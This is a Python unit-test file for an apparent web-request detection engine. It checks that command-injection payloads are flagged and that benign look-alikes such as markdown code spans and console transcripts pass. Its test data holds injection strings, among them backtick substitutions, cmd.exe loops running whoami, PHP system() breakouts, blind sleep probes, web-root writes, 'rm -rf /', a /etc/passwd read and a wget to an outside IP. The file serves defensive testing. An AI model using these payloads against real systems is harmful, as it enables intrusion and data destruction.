"""Unit: command-injection shapes fresh16 missed or wrongly flagged, each with the benign value of the same look it
must let through: three or more backtick substitutions back to back; cmd.exe's ``for /f … in ('…')`` loop after a
separator; Ruby's and Perl's ``%x( )`` / ``qx( )`` command literals; PHP's backtick operator in a string breakout;
the blind length test that sleeps; a command glued to a number (a whole command line, or output redirected into a
web root); and, the other way round, shell in a markdown fence, a ``$`` console transcript and a sentence wrapped
onto a line that opens with a tool's name. Every case goes through the whole engine with values of its own."""

from __future__ import annotations

import time

import pytest

from bastion.detection import Context, Engine
from bastion.detection.scripted import scripted_probe
from bastion.detection.shell import is_cmdi

BODY = Context("body", "comment")
QUERY = Context("query", "q")
HEADER = Context("header", "user-agent")
COOKIE = Context("cookie", "session")

ATTACKS: dict[str, tuple[str, Context]] = {
    # substitutions chained back to back, a tool among them
    "three_backticks_after_ampersand": ("7&printf ZZ`printf ZZ``uname``printf ZZ`ZZ", QUERY),
    "four_backticks_glued": ("abc`echo k1``id``echo k2``echo k3`", BODY),
    "backtick_chain_after_crlf": ("5'\r\nprintf MN`echo MN``hostname -f``echo MN`MN", COOKIE),
    # cmd.exe for /f loop running a command
    "for_f_after_pipe": ("x|for /f \"delims=\" %a in ('whoami /priv') do @echo %a", QUERY),
    "for_f_cmd_c_after_and": ("1&&for /f %%b in ('cmd /c \"ver\"') do @set /p =%%b<nul", BODY),
    "for_f_powershell_after_amp": ('q\'&FOR /F "tokens=1" %x IN (\'powershell -c "whoami"\') DO echo %x', HEADER),
    # Ruby / Perl command literals
    "ruby_percent_x_braces": ("%x{cat /etc/hostname}", BODY),
    "perl_qx_parens": ("qx(uname -a)", QUERY),
    "ruby_percent_x_in_interpolation": ("#{%x[whoami]}", BODY),
    # PHP backtick operator in a string breakout
    "php_backtick_breakout_multiline": ('9".echo(`id\nprintf done`);."', BODY),
    "php_backtick_breakout_comment": ("x'.system(`ls -la /tmp`);//", QUERY),
    # blind length test then sleep
    "length_test_then_sleep": ('a";Z=$(printf abcd);Z2=${#Z};if [ 4 -ne $Z2 ];then sleep 9;fi', BODY),
    "length_test_and_sleep": ("1'&&[ 3 -gt $N ]&&sleep 7", COOKIE),
    # a command glued to a number or a quote
    "glued_redirect_into_web_root": ("17hostname > /srv/www/probe.txt", QUERY),
    "glued_quote_redirect_into_inetpub": ("5'whoami > C:\\inetpub\\wwwroot\\w.txt'", BODY),
    "glued_interpreter_code": ('88perl -e "print 3*7"', QUERY),
    "glued_recon_tool": ('3"uname -a" #', HEADER),
}

BENIGN: dict[str, tuple[str, Context]] = {
    # markdown: code spans next to each other
    "markdown_bare_names": ("the `printf``echo``true` builtins", BODY),
    "markdown_double_backtick_span": ("write ``echo x`` with two backticks", BODY),
    # a batch loop shown on its own line in a comment
    "batch_loop_on_its_own_line": ("To list them, run:\nfor /f \"delims=\" %f in ('dir /b *.log') do type %f", BODY),
    "for_loop_prose": ("R&D for /f hardware", BODY),
    # format strings
    "printf_hex_format": ('printf("%x(%d)", a, b)', BODY),
    "hex_format_prose": ("use %x(hex) or %o(octal)", BODY),
    # JavaScript, not a PHP breakout
    "js_template_print": ("window.print(`Hello ${name}`)", BODY),
    # a retry loop in a script: its variable first
    "retry_loop_script": ("if [ $tries -gt 3 ]; then sleep 10; fi", BODY),
    # redirects in documentation and numbered steps
    "tutorial_redirect": ("run echo ok > /var/www/html/health.txt and reload the server", BODY),
    "numbered_step": ("2python scripts are supported", BODY),
    "quoted_word": ("'uname' is a command", BODY),
    # weak tools after a separator inside shown shell (the older snippet rules pass these)
    "tilde_fence_script": ("Try\r\n~~~\r\ncd repo; cat setup.cfg\r\n~~~\r\nthanks", BODY),
    "console_transcript": ("$ python -m venv env && env/bin/pip install tox; rm -rf env\r\n\r\nfails", BODY),
    # a sentence wrapped onto a line that opens with a capitalised word
    "wrapped_sentence": ("That option exists only on\r\nPython 3 and so it is fine for us", BODY),
    "wrapped_sentence_type": ("You can set the value\nType the name of the host in the box", BODY),
}

STILL_ATTACKS: dict[str, tuple[str, Context]] = {
    # what the wrapped-sentence pass must not let through
    "fence_with_strong_tool": ("```\nx;whoami\n```", BODY),
    "prompt_line_strong_tool": ("$ ls; wget http://203.0.113.9/x", BODY),
    # a fence or a $ prompt gets no pass: a shell runs what follows them, and an attacker can add either
    "prompt_then_weak_tool": ("$ q;id", BODY),
    "prompt_then_root_removal": ("$ ls; rm -rf /", BODY),
    "fence_then_separator": ("```\n;id\n```", BODY),
    "lowercase_line_after_break": ("note\npython -c 'import os'", BODY),
    "unclosed_fence_weak_tool": ("```\n;cat /etc/passwd", BODY),
}


@pytest.mark.parametrize(("value", "ctx"), (ATTACKS | STILL_ATTACKS).values(), ids=(ATTACKS | STILL_ATTACKS).keys())
def test_fresh16_cmdi_shape_is_blocked(engine: Engine, value: str, ctx: Context) -> None:
    found = engine.inspect(value, ctx)
    assert found is not None, value
    assert found.rule.attack == "cmdi", (value, found.rule.attack)


@pytest.mark.parametrize(("value", "ctx"), BENIGN.values(), ids=BENIGN.keys())
def test_fresh16_benign_look_alike_passes(engine: Engine, value: str, ctx: Context) -> None:
    assert engine.inspect(value, ctx) is None, value


@pytest.mark.parametrize(
    "value",
    [
        "`echo a``" * 13_000,
        "`id``" + "`x`" * 43_000,
        "1|for /f " + " " * 131_000,
        "%x(" * 43_000,
        "'.print(`" + "a" * 131_000,
        "[ 1 -eq $a ]" * 11_000,
        "42" + "'" * 131_000,
        "```\n;" * 32_000,
        "$ a;\n" * 26_000,
        "$ a" + ";id" * 43_000,
        "A\nPython and the ;" * 7_500,
    ],
)
def test_new_scans_stay_linear(value: str) -> None:
    start = time.process_time()
    is_cmdi(value)
    scripted_probe(value, frozenset({"id", "ls"}))
    assert time.process_time() - start < 5.0, value[:20]  # linear: ~0.7 s on a loaded 2-core machine
